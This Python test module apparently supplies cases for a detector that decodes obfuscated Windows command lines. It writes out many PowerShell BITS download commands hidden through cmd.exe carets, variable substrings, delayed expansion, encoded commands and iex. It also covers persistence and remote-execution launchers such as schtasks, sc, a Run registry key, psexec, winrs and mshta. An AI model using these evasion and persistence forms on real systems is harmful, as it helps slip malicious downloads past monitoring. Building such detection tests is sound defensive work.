"""What cmd.exe and other launchers hide: reference b.6 and a3."""

from .case import CMD, NAMED, PLAIN, TO, URL, down, encoded, quoted

HOST_LINE = f'powershell -c "{PLAIN}"'
BY_POSITION = f"Start-BitsTransfer {URL} {TO}"


def cmd(line, shows, obfuscation="", **others):
    others.setdefault("image", CMD)
    return down(line, shows, obfuscation, **others)


def plain():
    yield cmd(f"cmd.exe /c {HOST_LINE}", "/c")
    yield cmd(f'cmd /c "{HOST_LINE}"', "outer quotes")
    yield cmd(f'cmd.exe /d /s /c "{HOST_LINE}"', "/s")
    yield cmd(f"cmd /C{HOST_LINE}", "no blank")
    yield cmd(f'cmd /c"{HOST_LINE}"', "no blank before quotes")
    yield cmd(f"cmd /q /k {HOST_LINE}", "/k")
    yield cmd(f"cmd /c cd C:\\ && {HOST_LINE} && exit", "a chain")
    yield cmd(f"cmd /c ver & {HOST_LINE}", "one behind another")
    yield cmd(f"cmd /c (whoami&({HOST_LINE}))", "parentheses")
    yield cmd(f"cmd /c if exist C:\\ ({HOST_LINE}) else (echo no)", "a condition")
    yield cmd(f"cmd /c ,;@{HOST_LINE}", "delimiters before")
    yield cmd(f"cmd /c {HOST_LINE} >nul 2>&1", "redirections")
    yield cmd(f'cmd /c start "" /b {HOST_LINE}', "start")
    yield cmd(f"cmd /c start /min {HOST_LINE}", "start without a title")
    yield cmd(f"cmd /c cmd /c {HOST_LINE}", "two of them", "nested", decoded="")
    yield cmd(f"cmd /c echo {PLAIN}|powershell -", "echoed into a shell")
    yield cmd(f"cmd /c echo {PLAIN} | powershell.exe -NoP -NonI -Command -", "the same in full")
    yield cmd(f"cmd /c powershell -enc {encoded(PLAIN)}", "an encoded command", "encoded-command")


def carets():
    yield cmd(f"cmd /c p^o^w^e^r^s^h^e^l^l -c S^tart-B^itsTrans^fer {NAMED}", "carets", "caret")
    yield cmd(f"cmd /c ^p^ower^shell ^-c Start^-BitsTransfer -Sour^ce {URL} -Destination {TO}",
              "more of them", "caret")
    yield cmd(f'cmd /c p^owers^hell -c "{PLAIN} # ^^"', "carets in quotes stay", "caret")
    yield cmd(f"cmd /c po^wershell -^e^n^c {encoded(PLAIN)}", "in an option",
              "caret encoded-command")
    yield cmd(f"cmd /c \"p^owershell -c St^\"^\"art-BitsTransfer {NAMED}\"",
              "a caret before a quote", "caret")


def variables():
    yield cmd('cmd /c "set k=QStart-BitsT&&call powershell -c %k:~1%ransfer '
              f'{URL} {TO}"', "a rest of a variable", "env-substring", decoded=BY_POSITION)
    yield cmd(f"cmd /c set x=abStart-Bitscd&&call powershell -c %x:~2,10%Transfer {URL} {TO}",
              "a part of a variable", "env-substring", decoded=BY_POSITION)
    yield cmd(f"cmd /c set x=zzBitsTransfer&&call powershell -c Start-%x:~-12% {NAMED}",
              "counted from the end", "env-substring")
    yield cmd(f"cmd /c set x=StXXrt-BitsTrXXnsfer&&call powershell -c %x:xx=a% {NAMED}",
              "replaced in any case", "env-substring")
    yield cmd(f'cmd /c "set "a=Start-"&&set "b=BitsTransfer"&&call powershell -c %a%%b% {NAMED}"',
              "two variables", "cmd-variable")
    yield cmd(f"cmd /c set a=powershell&&call %a% -c {PLAIN}", "the program", "cmd-variable")
    yield cmd(f'cmd /V:ON /c "set n=BitsTransfer&&powershell -c Start-!n! {NAMED}"',
              "late expansion", "cmd-variable")
    yield cmd(f"cmd /v:on /c set n=xxStart-BitsTransferyy&&powershell -c !n:~2,18! {NAMED}",
              "a part by late expansion", "env-substring")
    yield cmd(f"cmd /c set n=Start-BitsTransfer&&cmd /c powershell -c %n% {NAMED}",
              "expanded by a second shell", "cmd-variable")
    yield cmd(f"cmd /c for %i in (Start-BitsTransfer) do powershell -c %i {NAMED}", "for",
              "cmd-variable")
    yield cmd(f'cmd /c for %q in (power) do %qshell -c "{PLAIN}"', "for, the program",
              "cmd-variable")
    yield cmd(f"cmd /c %ProgramFiles:~3,1%ower%ComSpec:~13,1%hell -c {PLAIN}",
              "letters of variables that every Windows has", "env-substring")
    yield cmd(f"cmd /c set x={BY_POSITION}&&powershell -c iex $env:x",
              "the environment of the shell inside", "invoke-expression", decoded=BY_POSITION)
    yield cmd(f'cmd /c echo {BY_POSITION}|powershell -c "$input|iex"', "the input of it",
              "invoke-expression", decoded=BY_POSITION)
    yield cmd(f"cmd /c %COMSPEC% /c {HOST_LINE}", "its own name by variable", decoded="")


def launchers():
    yield down(f"conhost.exe --headless {HOST_LINE}", "conhost", image=("conhost.exe", ""))
    yield down(f"forfiles /p C:\\Windows /m win.ini /c {quoted(HOST_LINE)}", "forfiles",
               image=("forfiles.exe", "forfiles.exe"))
    yield down(f"schtasks /create /tn Upd /sc daily /st 10:00 /tr {quoted(HOST_LINE)}",
               "schtasks", image=("schtasks.exe", "schtasks.exe"))
    yield down(f"wmic process call create {quoted(HOST_LINE)}", "wmic",
               image=("WMIC.exe", "wmic.exe"))
    yield down(f"sc create upd binPath= {quoted('cmd /c ' + HOST_LINE)} start= auto", "sc",
               image=("sc.exe", "sc.exe"))
    yield down(r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Upd /d "
               + quoted(HOST_LINE), "reg", image=("reg.exe", "reg.exe"))
    yield down(f"psexec.exe -accepteula -s \\\\srv1 {HOST_LINE}", "PsExec",
               image=("psexec.exe", "psexec.c"))
    yield down(f"winrs -r:srv1 {HOST_LINE}", "winrs", image=("winrs.exe", "winrs.exe"))
    yield down('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -c '
               f'{BY_POSITION}"",0:close")', "mshta", image=("mshta.exe", "MSHTA.EXE"))
    yield down(f"schtasks /create /tn U /sc once /st 10:00 /tr \"powershell -enc "
               f"{encoded(PLAIN)}\"", "an encoded command in a task", "encoded-command",
               image=("schtasks.exe", "schtasks.exe"))


def cases():
    for group in (plain, carets, variables, launchers):
        yield from group()
